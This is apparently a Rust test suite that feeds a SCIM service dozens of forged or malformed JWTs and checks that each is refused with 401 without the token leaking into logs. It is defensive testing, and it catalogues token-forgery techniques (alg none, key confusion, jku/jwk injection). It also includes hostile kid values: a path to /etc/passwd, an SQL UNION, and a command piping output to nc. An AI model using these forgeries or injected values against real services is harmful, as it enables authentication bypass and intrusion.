//! Tokens that somebody made up, changed, or signed with what was not meant for it: each is refused with 401 and a reason in
//! the log, and neither answer nor log holds any part of one.

use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use jsonwebtoken::{Algorithm, EncodingKey};
use serde_json::{Value, json};

use crate::support::client::Answer;
use crate::support::databases::{Database, Engine};
use crate::support::issuer::{Issuer, Key, answer, now, text};
use crate::support::service::{Options, Service};

struct Table {
    issuer: String,
    ec: Key,
    rsa: Key,
    evil: Key,
    /// What is tried; the token; a word of the reason.
    rows: Vec<(String, Vec<u8>, &'static str)>,
}

impl Table {
    fn claims(&self) -> Value {
        json!({
            "iss": self.issuer, "aud": "scim", "sub": "p", "scope": "openid scim", "iat": now(), "exp": now() + 600,
            "canary": "kkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkk"
        })
    }

    fn claims_with(&self, name: &str, value: Value) -> Value {
        let mut claims = self.claims();
        claims[name] = value;
        claims
    }

    fn claims_without(&self, name: &str) -> Value {
        let mut claims = self.claims();
        claims.as_object_mut().expect("an object").remove(name);
        claims
    }

    fn row(&mut self, what: impl Into<String>, token: impl Into<Vec<u8>>, reason: &'static str) {
        self.rows.push((what.into(), token.into(), reason));
    }

    /// Signed as it should be, with another header.
    fn header(&mut self, what: &str, header: Value, reason: &'static str) {
        let token = self.ec.with_header(&header, &self.claims());
        self.row(what, token, reason);
    }

    /// Signed as it should be, with other claims.
    fn claim(&mut self, name: &str, value: Value, reason: &'static str) {
        let token = self.ec.token(&self.claims_with(name, value.clone()));
        self.row(format!("{name} {value}"), token, reason);
    }

    fn missing(&mut self, name: &str, reason: &'static str) {
        let token = self.ec.token(&self.claims_without(name));
        self.row(format!("no {name}"), token, reason);
    }
}

fn hmac(key: &[u8], header: &Value, claims: &Value) -> String {
    let signed = format!("{}.{}", text(header.to_string().as_bytes()), text(claims.to_string().as_bytes()));
    let key = EncodingKey::from_secret(key);
    let signature = jsonwebtoken::crypto::sign(signed.as_bytes(), &key, Algorithm::HS256).expect("a signature");
    format!("{signed}.{signature}")
}

fn algorithms(table: &mut Table) {
    let none = "none that has a public key";
    for name in ["none", "None", "NONE", "nOnE", "none ", "", "HS512", "ES256K", "es256", "RSA-OAEP"] {
        let header = json!({"alg": name, "kid": "e1"});
        let token = table.ec.with_header(&header, &table.claims());
        let unsigned = format!("{}.", token.rsplit_once('.').expect("three parts").0);
        table.row(format!("alg {name:?}, unsigned"), unsigned, "not signed");
        table.row(format!("alg {name:?}, signed"), token, none);
    }
    table.header("no alg", json!({"kid": "e1"}), "no `alg`");
    table.header("alg null", json!({"alg": null, "kid": "e1"}), "no `alg`");
    table.header("alg list", json!({"alg": ["ES256"], "kid": "e1"}), "no `alg`");
    table.header("another algorithm than pinned", json!({"alg": "ES384", "kid": "e1"}), "`algorithms` does not name");
    table.header(
        "RSA's name on an EC signature",
        json!({"alg": "RS256", "kid": "e1"}),
        "not for the token's algorithm",
    );
    table.header(
        "RSA's key for an EC signature",
        json!({"alg": "ES256", "kid": "r1"}),
        "not for the token's algorithm",
    );
    table.header("RSA alone by its kind", json!({"alg": "RS256"}), "signature is wrong");
    let claims = table.claims();
    let pss = table.rsa.with_header(&json!({"alg": "PS256", "kid": "r1"}), &claims);
    table.row("a key for RS256 says PS256", pss, "not for the token's algorithm");
    let ec_by_rsa = table.rsa.with_header(&json!({"alg": "ES256", "kid": "e1"}), &claims);
    table.row("an RSA signature says ES256", ec_by_rsa, "signature is wrong");
    // The public key as a shared secret, in every form somebody could have it.
    let jwk = table.rsa.jwk.clone();
    let modulus = URL_SAFE_NO_PAD.decode(jwk["n"].as_str().expect("n")).expect("base64");
    let pem = format!("-----BEGIN PUBLIC KEY-----\n{}\n-----END PUBLIC KEY-----\n", STANDARD.encode(&modulus));
    let forms: [(&str, Vec<u8>); 6] = [
        ("its set", json!({"keys": [jwk]}).to_string().into_bytes()),
        ("its JWK", jwk.to_string().into_bytes()),
        ("its modulus", modulus.clone()),
        ("its modulus in base64url", jwk["n"].as_str().expect("n").as_bytes().to_vec()),
        ("PEM", pem.into_bytes()),
        ("nothing", Vec::new()),
    ];
    for (form, secret) in forms {
        for header in [json!({"alg": "HS256", "kid": "r1"}), json!({"alg": "HS256", "kid": "../../../../dev/null"})] {
            let kid = header["kid"].as_str().unwrap_or_default().to_owned();
            table.row(format!("HS256 with {form}, {kid}"), hmac(&secret, &header, &claims), none);
        }
        let renamed = hmac(&secret, &json!({"alg": "RS256", "kid": "r1"}), &claims);
        table.row(format!("an HMAC with {form} says RS256"), renamed, "signature is wrong");
    }
}

fn keys_of_their_own(table: &mut Table, evil_url: &str) {
    let claims = table.claims();
    let wrong = "signature is wrong";
    let by_evil = |header: &Value| table.evil.with_header(header, &claims);
    let jwk = &table.evil.jwk;
    let (unknown, url) = ("does not publish", format!("{evil_url}/keys"));
    let rows = [
        ("somebody's key", json!({"alg": "ES256", "kid": "e1"}), wrong),
        ("jwk", json!({"alg": "ES256", "kid": "e1", "jwk": jwk}), wrong),
        ("jwk, its own kid", json!({"alg": "ES256", "kid": "evil", "jwk": jwk}), unknown),
        ("jku", json!({"alg": "ES256", "kid": "e1", "jku": url}), wrong),
        ("jku, its own kid", json!({"alg": "ES256", "kid": "evil", "jku": url}), unknown),
        ("x5u", json!({"alg": "ES256", "kid": "evil", "x5u": url}), unknown),
        ("x5c", json!({"alg": "ES256", "kid": "e1", "x5c": ["AAAA"]}), wrong),
        ("kid is a URL", json!({"alg": "ES256", "kid": url}), unknown),
        ("kid is a path", json!({"alg": "ES256", "kid": "../../../../etc/passwd"}), unknown),
        ("kid is SQL", json!({"alg": "ES256", "kid": "e1' UNION SELECT 'key' --"}), unknown),
        ("kid is a command", json!({"alg": "ES256", "kid": "e1; id | nc 192.0.2.1 1"}), unknown),
        ("kid has a NUL", json!({"alg": "ES256", "kid": "e1\u{0}"}), unknown),
        ("kid is empty", json!({"alg": "ES256", "kid": ""}), unknown),
        ("kid in capitals", json!({"alg": "ES256", "kid": "E1"}), unknown),
        ("kid is long", json!({"alg": "ES256", "kid": "e1".repeat(2000)}), unknown),
        ("kid is a list", json!({"alg": "ES256", "kid": ["e1"]}), "`kid` is not text"),
        ("kid is null", json!({"alg": "ES256", "kid": null}), "`kid` is not text"),
        ("no kid, and two keys fit", json!({"alg": "ES256"}), "more than one key"),
    ];
    let rows: Vec<_> = rows.iter().map(|(what, header, reason)| (*what, by_evil(header), *reason)).collect();
    for (what, token, reason) in rows {
        table.row(what, token, reason);
    }
}

fn forms(table: &mut Table) {
    let good = table.ec.token(&table.claims());
    let parts: Vec<&str> = good.split('.').collect();
    let [head, body, signature] = parts[..] else { panic!("three parts") };
    let bytes = URL_SAFE_NO_PAD.decode(signature).expect("base64");
    let wrong = "signature is wrong";
    let signed = |signature: &[u8]| format!("{head}.{body}.{}", text(signature));
    let mut flipped = bytes.clone();
    flipped[40] ^= 1;
    let order = "ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551";
    let order: Vec<u8> = (0..32).map(|n| u8::from_str_radix(&order[n * 2..n * 2 + 2], 16).expect("hex")).collect();
    let der = [&[0x30, 0x44, 0x02, 0x20][..], &bytes[..32], &[0x02, 0x20], &bytes[32..]].concat();
    let admin = text(table.claims_with("sub", json!("root")).to_string().as_bytes());
    let other = table.ec.token(&table.claims_with("scope", json!("none")));
    let other_signature = other.rsplit('.').next().expect("a signature").to_owned();
    let last = URL_SAFE_NO_PAD.encode(&bytes);
    // 64 bytes end in a character of which four bits are used: another one decodes to the same bytes for lax readers.
    let lax = format!("{}{}", &last[..last.len() - 1], if last.ends_with('A') { 'B' } else { lax_twin(&last) });
    for (what, token, reason) in [
        ("the signature left out", format!("{head}.{body}."), "not signed"),
        ("two parts", format!("{head}.{body}"), "not a JWT"),
        ("one part", head.to_owned(), "not a JWT"),
        ("four parts", format!("{good}.{signature}"), "not a JWT"),
        ("five parts", format!("{good}.{signature}.{signature}"), "encrypted"),
        ("dots alone", "..".to_owned(), "not signed"),
        ("r and s are zero", signed(&[0; 64]), wrong),
        ("r is zero", signed(&[&[0; 32][..], &bytes[32..]].concat()), wrong),
        ("s is zero", signed(&[&bytes[..32], &[0; 32][..]].concat()), wrong),
        ("r is the order", signed(&[&order[..], &bytes[32..]].concat()), wrong),
        ("r and s are the order", signed(&[&order[..], &order[..]].concat()), wrong),
        ("s is one byte short", signed(&bytes[..63]), wrong),
        ("s is missing", signed(&bytes[..32]), wrong),
        ("one byte more", signed(&[&bytes[..], &[0]].concat()), wrong),
        ("a byte in front", signed(&[&[0], &bytes[..]].concat()), wrong),
        ("a DER signature", signed(&der), wrong),
        ("a bit of the signature", signed(&flipped), wrong),
        ("another token's signature", format!("{head}.{body}.{other_signature}"), wrong),
        ("other claims", format!("{head}.{admin}.{signature}"), wrong),
        ("padding", format!("{good}="), wrong),
        ("spare bits", format!("{head}.{body}.{lax}"), wrong),
        ("padding in the header", format!("{head}==.{body}.{signature}"), "header is not base64url"),
        ("a space inside", format!("{head}.{body} .{signature}"), wrong),
        ("an empty header", format!(".{body}.{signature}"), "header is not JSON"),
        ("empty claims", format!("{head}..{signature}"), wrong),
        (
            "JSON serialization",
            json!({"payload": body, "protected": head, "signature": signature}).to_string(),
            "not a JWT",
        ),
        ("quoted", format!("\"{good}\""), "header is not base64url"),
        ("commas", good.replace('.', ","), "not a JWT"),
        ("twice", format!("{good},{good}"), "encrypted"),
    ] {
        table.row(what, token, reason);
    }
    let raw = |header: &[u8], claims: &[u8]| table.ec.raw(header, claims);
    let plain = table.claims().to_string();
    let header = br#"{"alg":"ES256","kid":"e1"}"#;
    let deep = format!("{{\"a\":{}{},{}", "[".repeat(3000), "]".repeat(3000), &plain[1..]);
    let rows = [
        ("alg twice", raw(br#"{"alg":"none","alg":"ES256","kid":"e1"}"#, plain.as_bytes()), "header has a name twice"),
        ("kid twice", raw(br#"{"kid":"r1","alg":"ES256","kid":"e1"}"#, plain.as_bytes()), "header has a name twice"),
        ("sub twice", raw(header, plain.replacen('{', "{\"sub\":\"root\",", 1).as_bytes()), "claims has a name twice"),
        (
            "exp twice",
            raw(header, plain.replacen('{', "{\"\\u0065xp\":9999999999,", 1).as_bytes()),
            "claims has a name twice",
        ),
        (
            "twice inside",
            raw(header, plain.replacen('{', "{\"a\":[{\"b\":1,\"b\":2}],", 1).as_bytes()),
            "claims has a name twice",
        ),
        ("trailing data", raw(header, format!("{plain}{{}}").as_bytes()), "claims is not JSON"),
        ("a NUL at the end", raw(header, format!("{plain}\0").as_bytes()), "claims is not JSON"),
        ("a comment", raw(header, format!("/* */{plain}").as_bytes()), "claims is not JSON"),
        ("a BOM", raw(b"\xef\xbb\xbf{\"alg\":\"ES256\"}", plain.as_bytes()), "header is not JSON"),
        ("claims not UTF-8", raw(header, &[plain.as_bytes(), b"\xff"].concat()), "claims is not JSON"),
        (
            "half a surrogate",
            raw(header, plain.replacen('{', "{\"a\":\"\\ud800\",", 1).as_bytes()),
            "claims is not JSON",
        ),
        (
            "UTF-16",
            raw(header, &plain.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<_>>()),
            "claims is not JSON",
        ),
        ("a list", raw(header, format!("[{plain}]").as_bytes()), "claims is not a JSON object"),
        ("text", raw(header, b"\"scim\""), "claims is not a JSON object"),
        ("nothing", raw(header, b""), "claims is not JSON"),
        ("deep", raw(header, deep.as_bytes()), "claims is not JSON"),
        ("NaN", raw(header, plain.replacen('{', "{\"nbf\":NaN,", 1).as_bytes()), "claims is not JSON"),
        (
            "a token in a token",
            raw(br#"{"alg":"ES256","kid":"e1","cty":"JWT"}"#, good.as_bytes()),
            "claims is not JSON",
        ),
    ];
    for (what, token, reason) in rows {
        table.row(what, token, reason);
    }
    table.row("a header of bytes", [b"\xff\xfe.", good.as_bytes()].concat(), "");
    for (what, header, reason) in [
        ("crit", json!({"alg": "ES256", "kid": "e1", "crit": ["exp"]}), "`crit`"),
        ("crit, empty", json!({"alg": "ES256", "kid": "e1", "crit": []}), "`crit`"),
        ("b64", json!({"alg": "ES256", "kid": "e1", "b64": false, "crit": ["b64"]}), "`crit`"),
        ("zip", json!({"alg": "ES256", "kid": "e1", "zip": "DEF"}), "`zip`"),
        ("enc", json!({"alg": "ES256", "kid": "e1", "enc": "A256GCM"}), "`enc`"),
        ("an ID token by its type", json!({"alg": "ES256", "kid": "e1", "typ": "id_token"}), "`typ`"),
        ("a logout token", json!({"alg": "ES256", "kid": "e1", "typ": "logout+jwt"}), "`typ`"),
        ("a proof of possession", json!({"alg": "ES256", "kid": "e1", "typ": "dpop+jwt"}), "`typ`"),
        ("a security event", json!({"alg": "ES256", "kid": "e1", "typ": "secevent+jwt"}), "`typ`"),
        ("typ is a number", json!({"alg": "ES256", "kid": "e1", "typ": 1}), "`typ`"),
    ] {
        table.header(what, header, reason);
    }
}

/// The character that differs in the unused bits alone.
fn lax_twin(text: &str) -> char {
    const ALPHABET: &str = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let at = ALPHABET.find(text.chars().last().expect("a character")).expect("base64url");
    char::from(ALPHABET.as_bytes()[at ^ 1])
}

fn claims(table: &mut Table) {
    let issuer = table.issuer.clone();
    for wrong in [
        json!(format!("{issuer}/")),
        json!(issuer.to_uppercase()),
        json!(format!(" {issuer}")),
        json!(issuer.replace("https", "http")),
        json!(format!("{issuer}.evil.example.com")),
        json!(issuer.replacen('1', "\u{ff11}", 1)),
        json!(""),
    ] {
        table.claim("iss", wrong, "`iss` is");
    }
    table.claim("iss", json!([issuer]), "`iss` is not text");
    table.claim("iss", json!({"iss": issuer}), "`iss` is not text");
    table.missing("iss", "no `iss`");
    for wrong in
        [json!("SCIM"), json!("scim "), json!("scimitar"), json!("sc"), json!([]), json!(["a", "b"]), json!("a scim")]
    {
        table.claim("aud", wrong, "`aud` is `");
    }
    for wrong in [json!([["scim"]]), json!({"scim": true}), json!(["scim", null]), json!(null), json!(1)] {
        table.claim("aud", wrong, "`aud` is neither");
    }
    table.missing("aud", "no `aud`");
    table.claim("exp", json!(now() - 61), "expired");
    table.claim("exp", json!(1), "expired");
    table.claim("exp", json!(0), "expired");
    for wrong in
        [json!((now() + 600).to_string()), json!(null), json!(true), json!([now() + 600]), json!(-1), json!(1e300)]
    {
        table.claim("exp", wrong, "`exp` is not a time");
    }
    table.missing("exp", "no `exp`");
    table.claim("nbf", json!(now() + 120), "`nbf` is");
    table.claim("nbf", json!("0"), "`nbf` is not a time");
    table.claim("iat", json!(now() + 120), "`iat` is");
    table.claim("iat", json!(now() * 1000), "`iat` is");
    table.claim("iat", json!("yesterday"), "`iat` is not a time");
    for wrong in [json!("P"), json!(""), json!("p\u{0}"), json!("q")] {
        table.claim("sub", wrong, "`sub` is");
    }
    table.claim("sub", json!(["p"]), "`sub` is not text");
    table.missing("sub", "`sub` is missing");
    for wrong in [
        json!("openid"),
        json!("scimitar"),
        json!("SCIM"),
        json!("a,scim"),
        json!(["openid"]),
        json!({"scim": 1}),
        json!(null),
    ] {
        table.claim("scope", wrong, "`scope` does not have `scim`");
    }
    table.missing("scope", "does not claim `scope`");
}

#[test]
fn made_up_tokens() {
    let (ec, second, mut rsa, evil) = (Key::es256("e1"), Key::es256("e2"), Key::rs256("r1"), Key::es256("evil"));
    rsa.jwk["alg"] = json!("RS256");
    let set = json!({"keys": [ec.jwk, second.jwk, rsa.jwk]}).to_string();
    let issuer = Issuer::start(move |_| answer("200 OK", "", &set));
    let their_set = json!({"keys": [evil.jwk]}).to_string();
    let theirs = Issuer::start(move |_| answer("200 OK", "", &their_set));
    let servers = format!(
        "{{ test: {{ default: true, authentication: {{ bearer: , jwt: {{ issuer: \"{0}\", audience: scim, subject: p, jwks_url: \
         \"{0}/keys\", algorithms: [ES256, RS256, PS256], claims: {{ scope: scim }}, ca: {1} }} }} }} }}",
        issuer.url,
        issuer.ca().display()
    );
    let options = Options::small().identity_servers(&servers);
    let options = options.more("limits: { failures_per_minute: 10000 }").more("log: { level: debug, format: json }");
    let database = Database::small(Engine::Sqlite);
    let service = Service::start(&database, options);
    let mut table = Table { issuer: issuer.url.clone(), ec, rsa, evil, rows: Vec::new() };
    algorithms(&mut table);
    keys_of_their_own(&mut table, &theirs.url);
    forms(&mut table);
    claims(&mut table);
    let mut client = service.client_with("/scim/v2", None);
    let mut get = |token: &[u8]| -> Answer {
        let host = service.url().replace("https://", "");
        let head = format!("GET /scim/v2/Users HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer ");
        client.send_bytes(&[head.as_bytes(), token, b"\r\n\r\n"].concat(), false).expect("an answer")
    };
    // What is good is good, by either key.
    let good = table.claims();
    get(table.ec.token(&good).as_bytes()).expect(200);
    get(table.rsa.token(&good).as_bytes()).expect(200);
    get(table.rsa.with_header(&json!({"alg": "RS256"}), &good).as_bytes()).expect(200);
    get(table.ec.token(&table.claims_with("aud", json!(["x", "scim"]))).as_bytes()).expect(200);
    get(table.ec.token(&table.claims_with("exp", json!(now() - 50))).as_bytes()).expect(200);
    assert!(table.rows.len() >= 60, "{} rows", table.rows.len());

    let mut seen = Vec::new();
    for (what, token, reason) in &table.rows {
        let refused = get(token);
        assert_eq!(refused.status, 401, "{what}: {}", refused.text());
        let challenge = refused.header("www-authenticate").unwrap_or_default();
        assert!(challenge.starts_with("Bearer "), "{what}: {challenge}");
        assert!(refused.text().contains(reason), "{what}: {} is not {reason:?}", refused.text());
        let id = refused.header("x-request-id").expect("an id").to_owned();
        seen.push((what, id, token, reason, refused.text()));
    }
    assert_eq!(theirs.requests(), 0, "nothing that a token names is fetched");
    assert!(issuer.requests() <= 3, "{} fetches", issuer.requests());
    get(table.ec.token(&good).as_bytes()).expect(200);
    std::thread::sleep(std::time::Duration::from_millis(300));
    let log = service.stderr();
    for (what, id, token, reason, answered) in seen {
        let line = log.lines().find(|line| line.contains(&id) && line.contains("not authenticated"));
        let line = line.unwrap_or_else(|| panic!("{what}: no reason in the log"));
        let why = serde_json::from_str::<Value>(line).expect("JSON")["why"].as_str().unwrap_or_default().to_owned();
        assert!(!why.is_empty() && why.contains(reason), "{what}: {line}");
        for part in String::from_utf8_lossy(token).split('.').filter(|part| part.len() > 20) {
            assert!(!log.contains(part), "{what}: a part of the token is in the log");
            assert!(!answered.contains(part), "{what}: a part of the token is in the answer");
        }
    }
    assert!(!log.contains("kkkkkkkkkkkkkkkk"), "no claim that is nobody's business is in the log");
}
